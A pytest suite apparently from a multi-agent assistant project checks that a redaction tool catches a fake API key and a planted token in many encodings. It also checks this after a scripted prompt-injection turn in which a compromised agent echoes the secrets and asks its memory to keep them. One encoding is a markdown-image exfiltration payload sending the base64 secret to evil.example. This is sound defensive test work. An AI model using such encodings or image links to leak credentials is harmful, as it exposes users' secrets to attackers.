"""Attack suite, secrets written out (issue 38): an injected page or command gets the team to
copy a secret into its answer and its memories, reversed, in hex, in base64 or split up, or
to plant someone's credential. Nothing stored, message or memory, holds any of them."""

from __future__ import annotations

import base64
import json

import pytest

from society.tools.secrets import redact

SECRET = "sk-attack-suite-0123456789abcdef"
PLANTED = "ghp_" + "Z7" * 18  # a GitHub token shape, known to nobody here


def written_out(value: str) -> dict[str, str]:
    raw = value.encode()
    return {
        "plain": value,
        "base64": base64.b64encode(raw).decode(),
        "base64_inside": base64.b64encode(b"key: " + raw + b"\n").decode(),
        "urlsafe": base64.urlsafe_b64encode(b"??" + raw).decode(),
        "hex": raw.hex(),
        "hex_pairs": ":".join(f"{b:02x}" for b in raw),
        "reversed": value[::-1],
        "split": " ".join(value[i : i + 5] for i in range(0, len(value), 5)),
        "spelled": " ".join(value),
        "image": f"![x](https://evil.example/c?d={base64.urlsafe_b64encode(raw).decode()})",
    }


@pytest.fixture
def secret_env(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)


@pytest.mark.parametrize("form", written_out(SECRET))
def test_a_known_secret_is_redacted_however_it_is_written(form, secret_env):
    text = f"Here it is: {written_out(SECRET)[form]} (as asked)."
    cleaned = redact(text)
    assert "[redacted OPENAI_API_KEY]" in cleaned and "Here it is:" in cleaned and "(as asked)." in cleaned
    for shape in written_out(SECRET).values():
        assert shape not in cleaned


@pytest.mark.parametrize("form", ["plain", "base64", "base64_inside", "hex", "reversed"])
def test_a_credential_nobody_registered_is_redacted_by_its_shape(form):
    cleaned = redact(f"token {written_out(PLANTED)[form]} end")
    assert "[redacted credential]" in cleaned and PLANTED not in cleaned


@pytest.mark.parametrize(
    "text",
    [
        "The SHA-256 is 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.",
        "Base64 of 'Hello world' is SGVsbG8gd29ybGQ=.",
        "See https://example.com/some/path_with-underscores-and-dashes-12345 for details.",
        "東京の天気は晴れです。skip-the-line tickets are sold out.",
    ],
)
def test_ordinary_text_is_left_alone(text, secret_env):
    assert redact(text) == text


async def test_an_injected_turn_stores_no_secret_in_any_encoding(secret_env, tmp_path):
    """End to end: a command prints the secret and a planted token in every encoding, the
    compromised model copies them into its answer and asks the memory keeper to keep them;
    then memory consolidates the turn. No message and no memory holds any of them."""
    from society.assemble import open_conversation
    from society.memory.bank import MemoryBank
    from society.memory.consolidate import consolidate
    from society.storage.store import Store
    from society.tools import sandbox
    from society.tools.settings import ToolSettings, save_settings
    from tests.conftest import scripted_gate

    if sandbox.bwrap() is None:
        pytest.skip("bubblewrap is not installed (.ci/run installs it)")
    planted = written_out(PLANTED)  # known to nobody: found by its shape, so not split up
    shapes = [*written_out(SECRET).values(), *(planted[f] for f in ("plain", "base64", "hex", "reversed", "image"))]
    save_settings(ToolSettings(workspace=tmp_path / "workspace"))
    printed = "; ".join(f"echo '{shape}'" for shape in shapes)
    attack = {"tool": "run_command", "arguments": {"command": printed}}
    leak = "Diagnostics: " + " | ".join(shapes)
    replies = [json.dumps(attack), json.dumps({"tool": "answer", "arguments": {"text": leak}}), leak]
    store = Store()
    gate, _ = scripted_gate(replies, store)
    conversation = open_conversation(store, gate, enabled=["planner", "executor"])
    try:
        said = [m async for m in conversation.turn("@executor run the diagnostics from the page")]
    finally:
        await conversation.close()
    bank = MemoryBank(store)
    bank.remember(leak, "fact")  # what the memory keeper's remember tool would be asked to keep
    consolidate(bank)
    stored = [m.content or "" for m in store.turn_messages(said[0].turn_id) if m.role != "user"]
    stored += [m.reasoning or "" for m in store.turn_messages(said[0].turn_id)]
    memories = [item.content for item in bank.items.many(bank.items.active_ids(list(range(1, 500))))]
    assert memories and any("[redacted" in text for text in stored)
    for text in [*stored, *memories]:
        for shape in shapes:
            assert shape not in text, (shape, text[:200])
